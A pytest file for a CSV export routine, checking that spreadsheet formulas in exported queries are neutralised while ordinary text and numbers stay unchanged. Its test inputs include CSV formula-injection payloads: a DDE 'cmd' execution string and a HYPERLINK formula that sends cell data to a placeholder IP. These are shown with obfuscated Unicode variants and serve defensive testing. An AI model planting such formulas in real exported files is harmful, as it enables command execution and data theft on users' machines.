"""Figures as CSV: read by spreadsheets in any language, run by none."""

import csv
import io

import pytest

from kb.statistics.export import BYTE_ORDER_MARK, to_csv


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK))))


@pytest.mark.parametrize(
    "typed",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://203.0.113.9/?"&A1)',
        "+1+2",
        "-2+3+cmd|' /C calc'!D2",
        "-5",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\tword",
        "\rword",
        " =1+1",
        "\u00a0=1+1",
        "\u200f=SUM(A1)",
        "\u2066@SUM(A1)",
        "\ufeff=1+1",
        "\x00=1+1",
        "\uff1d1+1",  # full-width equals, plus, hyphen, at
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
    ],
)
def test_what_a_spreadsheet_would_run_is_text(typed: str) -> None:
    cell = cells_of(to_csv([{"query": typed}]))[1][0]

    assert cell.startswith("'")
    assert cell.replace("'=", "=").removeprefix("'") == typed.replace("'=", "=")


@pytest.mark.parametrize("typed", ["price;=1+1", "a\t=1+1", "a\r\n=1+1", "a\n@SUM(A1)", "a; +1", "a;\u200f-1"])
def test_nor_does_it_run_what_follows_another_country_s_separator(typed: str) -> None:
    parts = to_csv([{"query": typed}]).replace("\t", ";").replace("\r", ";").replace("\n", ";").split(";")

    assert not [part for part in parts if part.strip(' "\u200f').startswith(tuple("=+-@"))]


@pytest.mark.parametrize(
    "typed",
    [
        "reset password",
        "كلمة المرور",
        "a-b",
        "c++",
        "1 - 2",
        "me@home",
        "a=b",
        "e-mail; phone",
        "5",
        "one\r\ntwo\n\nthree",
    ],
)
def test_ordinary_text_stays_as_it_is(typed: str) -> None:
    assert cells_of(to_csv([{"query": typed}])) == [["query"], [typed]]


def test_numbers_stay_numbers() -> None:
    assert cells_of(to_csv([{"low": -0.25, "change": -3, "high": 1e-07, "rate": None, "open": False}])) == [
        ["low", "change", "high", "rate", "open"],
        ["-0.25", "-3", "1e-07", "", "False"],
    ]


def test_a_spreadsheet_knows_by_the_first_bytes_that_it_is_utf_8() -> None:
    assert to_csv([{"query": "كلمة"}]).encode().startswith(b"\xef\xbb\xbfquery\r\n")
    assert to_csv([]) == BYTE_ORDER_MARK
